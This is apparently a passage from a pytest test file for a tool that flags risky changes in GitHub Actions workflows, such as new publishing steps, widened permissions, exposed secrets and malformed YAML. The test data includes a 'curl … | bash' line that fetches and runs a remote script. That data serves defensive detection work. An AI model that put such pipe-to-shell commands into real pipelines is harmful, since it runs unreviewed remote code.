    old = edited(CI, "python -m build", "curl https://get.example/i.sh | bash -s 2.0.3")
    assert said(old, edited(old, "2.0.3", "2.0.4")) == [f"medium run-changed {TEST}[Build].run"]


@pytest.mark.parametrize(
    "expression",
    [
        "github.sha",
        "github.event.number",
        "github.event.issue.number",
        "github.repository",
        "github.event.repository.default_branch",
        "contains(github.event.issue.title, 'bug')",
        "github.event.issue.title == 'bug'",
        "startsWith(github.head_ref, 'release/')",
        "matrix.title",
        "'github.event.issue.title'",
    ],
)
def test_what_strangers_cannot_write_may_be_pasted(expression: str) -> None:
    new = edited(CI, '"Hello $WHO"', f'"Hello ${{{{ {expression} }}}}"')
    assert "expression-into-shell" not in {delta.kind for delta in deltas(CI, new)}


def test_strangers_text_in_the_environment_is_the_cure() -> None:
    new = edited(CI, "WHO: world", "WHO: ${{ github.event.issue.title }}")
    assert said(CI, new) == [f"medium env-changed {TEST}[Greet].env.WHO"]


@pytest.mark.parametrize(
    "run",
    ["npm publish --dry-run", "goreleaser release --snapshot", "pip install twine", "npm run build", "docker build ."],
)
def test_a_rehearsal_publishes_nothing(run: str) -> None:
    assert "publish-changed" not in {delta.kind for delta in deltas(CI, edited(CI, "python -m build", run))}


@pytest.mark.parametrize(
    "run",
    [
        *("npm publish", "pnpm -r publish", "yarn npm publish", "cargo publish", "uv publish", "hatch publish"),
        *("twine upload dist/*", "python -m twine upload dist/*", "poetry publish --build", "gem push x.gem"),
        *("dotnet nuget push x", "docker push acme/app", "docker buildx build --push .", "sudo docker push a"),
        *("goreleaser release --clean", "npx semantic-release", "gh release create v1", "gh release upload v1 x"),
        *("vsce publish", "npx ovsx publish", "./gradlew publishAllPublications", "mvn -B deploy", "helm push x y"),
        *("git push origin --tags", "make && npm publish", "TOKEN=1 npm publish", "if a; then npm publish; fi"),
    ],
)
def test_commands_that_publish(run: str) -> None:
    found = deltas(CI, edited(CI, "python -m build", run.strip()))
    assert [delta.severity for delta in found if delta.kind == "publish-changed"] == [Severity.CRITICAL]


def test_an_inserted_step_moves_no_other() -> None:
    assert said(CI, edited(CI, *added(CI, "    steps:", f"{STEP}run: make ready"))) == [
        f"medium run-changed {TEST}[Extra].run"
    ]


def test_nameless_steps_are_told_apart_by_content() -> None:
    old = "on: push\njobs: {a: {steps: [{run: one}, {run: two}, {uses: x/y@v1}, {uses: x/y@v1, with: {k: 1}}]}}\n"
    new = "on: push\njobs: {a: {steps: [{run: zero}, {run: one}, {run: two}, {uses: x/y@v1, with: {k: 2}}]}}\n"
    assert said(old, new) == [
        "low action-removed jobs.a.steps[x/y #2].uses",
        "medium run-changed jobs.a.steps[1].run",
        "medium workflow-changed jobs.a.steps[x/y].with.k",
    ]


def test_swapped_steps_are_one_fact() -> None:
    build = "      - run: make\n"
    check = "      - run: ./sign.sh\n"
    head = "on: push\njobs:\n  a:\n    steps:\n"
    assert said(head + build + check, head + check + build) == ["medium workflow-changed jobs.a.steps"]


def test_a_renamed_job_is_the_same_job() -> None:
    assert said(CI, edited(CI, "  test:\n", "  tests:\n")) == ["low workflow-changed jobs.tests"]


def test_a_check_that_moved_is_not_lost() -> None:
    moved = edited(CI, "      - name: Unit tests\n        run: pytest -q\n", "") + (
        "  unit:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Unit tests\n        run: pytest -q\n"
    )
    assert "check-weakened" not in {delta.kind for delta in deltas(CI, moved)}


def test_a_check_replaced_by_another_in_its_step_is_a_changed_script() -> None:
    assert said(CI, edited(CI, "pytest -q", "poetry run poe test-all")) == [
        f"medium run-changed {TEST}[Unit tests].run"
    ]


@pytest.mark.parametrize("line", ["kill $pid", "wait $pid 2>/dev/null", "rm -rf build", "docker rm -f db"])
def test_tidying_up_may_fail(line: str) -> None:
    old = edited(CI, "python -m build", line)
    assert said(old, edited(old, line, f"{line} || true")) == [f"medium run-changed {TEST}[Build].run"]


def test_one_of_two_equal_checks_is_missed() -> None:
    twice = CI + "      - name: Again\n        run: pytest -q\n"
    assert said(twice, CI) == [f"high check-weakened {TEST}[Again].run"]


def test_a_removed_job_is_told_by_what_it_did() -> None:
    rest = "on: push\njobs:\n  keep: {runs-on: x, steps: [{run: make}]}\n"
    for job, expected in {
        "{steps: [{run: pytest}]}": ["high check-weakened jobs.gone"],
        "{uses: ./.github/workflows/python-tests.yml}": ["high check-weakened jobs.gone"],
        "{steps: [{name: Out, run: npm publish}]}": ["critical publish-changed jobs.gone.steps[Out]"],
        "{steps: [{run: ./docs.sh}]}": ["medium workflow-changed jobs.gone"],
    }.items():
        assert said(f"{rest}  gone: {job}\n", rest) == expected


def test_the_same_script_weighs_more_where_secrets_are() -> None:
    plain = "on: push\npermissions: {}\njobs: {a: {steps: [{name: s, run: one}]}}\n"
    armed = plain.replace("[{", "[{env: {T: '${{ secrets.T }}'}, run: x}, {")
    assert said(plain, plain.replace("one", "two")) == ["medium run-changed jobs.a.steps[s].run"]
    assert said(armed, armed.replace("one", "two")) == ["high run-changed jobs.a.steps[s].run"]


def test_a_secret_the_step_could_read_already_is_not_news() -> None:
    old = "on: push\njobs: {a: {env: {T: '${{ secrets.T }}'}, steps: [{name: s, run: x}]}}\n"
    new = old.replace("run: x", "run: x, env: {U: '${{ secrets.T }}'}")
    assert said(old, new) == ["medium env-changed jobs.a.steps[s].env.U"]


def test_tools_moved_from_an_input_to_the_arguments_are_the_same_tools() -> None:
    new = edited(
        TRIAGE,
        "          allowed_tools: Read,Bash(gh issue edit:*)\n",
        "",
        "--max-turns 5",
        '--max-turns 5 --allowedTools "Read,Bash(gh issue edit:*)"',
    )
    assert "agent-step-widened" not in {delta.kind for delta in deltas(TRIAGE, new)}


def test_one_reference_to_a_secret_is_not_also_a_changed_variable() -> None:
    found = deltas(CI, edited(CI, "WHO: world", "WHO: ${{ secrets.T }}"))
    assert [(delta.kind, delta.old, delta.new) for delta in found] == [("secret-exposed", "", "secrets.T")]


def test_a_new_workflow_is_told_with_what_it_brings() -> None:
    assert said(None, TRIAGE) == sorted(
        [
            "critical workflow-added on",
            "critical trigger-widened on.issues",
            "critical permission-widened permissions.issues",
            f"medium action-added {AGENT}.uses",
            f"critical agent-step-added {AGENT}.uses",
            f"high secret-exposed {AGENT}.with.anthropic_api_key",
            "medium action-added jobs.triage.steps[Script].uses",
        ]
    )
    assert "high workflow-added on" in said(None, CI)
    assert said(None, PROGRAM) == [
        "high run-changed runs.main",
        "high run-changed runs.using",
        "high workflow-added runs",
    ]


def test_a_deleted_workflow_is_told_by_what_it_did() -> None:
    assert said(CI, None) == ["high check-weakened jobs", "high workflow-deleted workflow"]
    assert said(RELEASE, None) == [
        "critical publish-changed jobs",
        "critical publish-changed jobs",
        "high workflow-deleted workflow",
    ]
    assert said("on: push\njobs: {a: {steps: [{run: make}]}}\n", None) == ["medium workflow-deleted workflow"]
    assert said(ACTION, None) == ["high workflow-deleted action"]


def test_old_and_new_values_and_the_line_are_given() -> None:
    new = edited(CI, "contents: read", "contents: write", "name: CI\n", "")
    assert deltas(CI, new) == [
        Delta("permission-widened", "permissions.contents", "read", "write", Severity.CRITICAL, 7)
    ]
    assert new.splitlines()[6] == "  contents: write"


def test_the_line_of_what_is_gone_is_in_the_old_file() -> None:
    (delta,) = deltas(CI, edited(CI, "      - name: Unit tests\n        run: pytest -q\n", ""))
    assert CI.splitlines()[delta.line - 1] == "        run: pytest -q"


def test_long_values_are_cut_and_control_characters_kept() -> None:
    new = edited(CI, "WHO: world", 'WHO: "\\e[2J' + "x" * 500 + '"')
    (delta,) = deltas(CI, new)
    assert len(delta.new) == 200
    assert delta.new.startswith("\x1b[2Jxx")


@pytest.mark.parametrize(
    ("broken", "why"),
    [
        ("on: push\non: [push]\n", "line 2: duplicate key 'on'"),
        ("on: [push\njobs: {}\n", "line 2: "),
        ("- a\n- b\n", "not a mapping"),
        ("just text\n", "not a mapping"),
        ("", "not a mapping"),
        ("on: push\n---\non: push\n", "line 2: "),
        ("a: &a [*a]\n", "line 1: alias *a contains itself"),
        ("on: push # " + "x" * 5_000_000, "YAML larger than 1000000 bytes"),
        ("on: push\njobs: {a: {steps: [" + "{run: x}," * 5_001 + "]}}", "more than 5000 steps"),
        ("on: push\njobs: {a: {steps: [{run: " + "x" * 100_001 + "}]}}", "a script of more than 100000 characters"),
        ("on: push\n\x00", ""),
    ],
    ids=["duplicate", "unclosed", "list", "text", "empty", "two documents", "loop", "large", "steps", "script", "NUL"],
)
def test_what_cannot_be_read_is_opaque_on_either_side(broken: str, why: str) -> None:
    for old, new in ((CI, broken), (broken, CI), (None, broken), (broken, None)):
        (delta,) = deltas(old, new)
        assert (delta.kind, delta.severity) == ("opaque", Severity.CRITICAL)
        assert delta.subject.startswith(why)


def test_bytes_that_are_no_text_are_opaque() -> None:
    (delta,) = github_workflow.diff(CI.encode(), b"on: \xff\xfe\xfa")
    assert delta.kind == "opaque"


def test_no_file_on_either_side_is_nothing() -> None:
    assert deltas(None, None) == []
    assert deltas(CI, CI) == []


@pytest.mark.parametrize(
    "shape",
    [
        "on: 1\njobs: 2\n",
        "on: {1: {2: 3}}\njobs: {4: {steps: {5: 6}}}\n",
        "on: [[push]]\njobs: [a]\npermissions: [contents]\n",
        "on: push\njobs: {a: [b], c: {steps: [d, [e], {run: [f]}, {uses: {g: h}}, {with: i}, {env: [j]}]}}\n",
        "on: push\njobs: {a: {permissions: 3, runs-on: {labels: {x: y}}, container: [z], services: 4, env: 5}}\n",
        "on: push\njobs: {a: {if: [x], needs: {y: z}, environment: [w], strategy: 1, secrets: [q], uses: []}}\n",
        "runs: [composite]\ninputs: 3\noutputs: [x]\n",
        "runs: {using: [x], steps: {a: b}, image: {c: d}, env: 4}\ninputs: {a: 1, b: [2]}\n",
        "on: {push: {branches: {a: b}, tags: [[c]], paths: 1}, issues: 7, schedule: x}\njobs: {}\n",
        f"on: push\njobs: {{a: {{timeout-minutes: 0x{'f' * 5000}}}}}\n",
        "on: push\njobs: {a: !!set {x, y}}\nb: !!binary aGk=\n",
        "~: 1\ntrue: 2\n1.5: 3\non: push\n",
    ],
)
def test_hostile_shapes_are_compared_and_never_trusted(shape: str) -> None:
    for old, new in ((CI, shape), (shape, CI), (None, shape), (shape, None), (ACTION, shape), (shape, ACTION)):
        found = deltas(old, new)
        assert found
        assert not [delta for delta in found if delta.subject.startswith("cannot be compared")]


def compared(old: bytes, new: bytes) -> list[Delta]:
    """`diff` without its last resort, so that an error is one."""
    try:
        return list(github_workflow.compare(workflow_page.read(old), workflow_page.read(new)))
    except YamlError:
        return []


BASES = [text.encode() for text in (CI, RELEASE, TRIAGE, ACTION, PROGRAM)]
LINES = sorted({line.encode() for text in (CI, RELEASE, TRIAGE, ACTION) for line in text.splitlines(keepends=True)})
MARKS = "${{ ;}};';\";{;[;];&a ;*a;<<: *a\n;- ;: ;!!set ;|\n;\t;#;secrets[;\u2028;on:;? ;---\n;0x1;~;permissions: 1\n"
SHARDS = [*LINES, *(mark.encode() for mark in MARKS.split(";")), b"\xff"]


@given(old=st.binary(max_size=200), new=st.binary(max_size=200))
@settings(max_examples=200, deadline=None)
def test_random_bytes_never_raise(old: bytes, new: bytes) -> None:
    compared(old, new)
    for delta in github_workflow.diff(old, new):
        assert delta.kind == "opaque" or load(new) is not None or load(old) is not None


@given(
    base=st.sampled_from(BASES),
    cuts=st.lists(st.tuples(st.integers(0, 2000), st.integers(0, 40), st.sampled_from(SHARDS)), max_size=5),
)
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_random_edits_never_raise_and_end_soon(base: bytes, cuts: list[tuple[int, int, bytes]]) -> None:
    new = base
    for start, length, shard in cuts:
        new = new[:start] + shard + new[start + length :]
    began = time.perf_counter()
    compared(base, new)
    compared(new, base)
    assert time.perf_counter() - began < 5
    if any(delta.kind != "opaque" for delta in github_workflow.diff(base, new)):
        assert load(base) != load(new) or b"#" in new


IGNORED = {"name", "description", "author", "branding", "id"}
VALUES = ["x", [], {}, ["a"], {"a": "b"}, True, 12, "${{ secrets.A }}", "write-all", ["a", {"b": 1}]]


def places(node: object, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    inside = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    return [path] * bool(path) + [found for key, inner in inside for found in places(inner, (*path, key))]


@given(base=st.sampled_from(BASES), seed=st.integers(0, 2**32), value=st.sampled_from([*VALUES, "gone"]))
@settings(max_examples=400, deadline=None)
def test_no_edit_is_ever_lost(base: bytes, seed: int, value: object) -> None:
    """Whatever value of the tree is replaced or removed, something is said, unless it is for people only."""
    tree = load(base)
    paths = [path for path in places(tree) if not IGNORED & set(path)]
    path = paths[seed % len(paths)]
    parent = tree
    for key in path[:-1]:
        parent = parent[key]
    was = parent[path[-1]]
    if value == "gone":
        del parent[path[-1]]
    else:
        parent[path[-1]] = value
    new = dumped(tree)
    same = value == was or str(value).lower() == str(was).lower() or [value] == was or value == [was]
    # A mapping without keys, and a workflow's rights when each of its jobs has its own, change nothing.
    empty = not was and not value
    if not same and not empty and path != ("permissions",):
        assert deltas(dumped(load(base)), new)
        assert deltas(new, dumped(load(base)))


def dumped(tree: object) -> str:
    """JSON is YAML."""
    return json.dumps(tree)
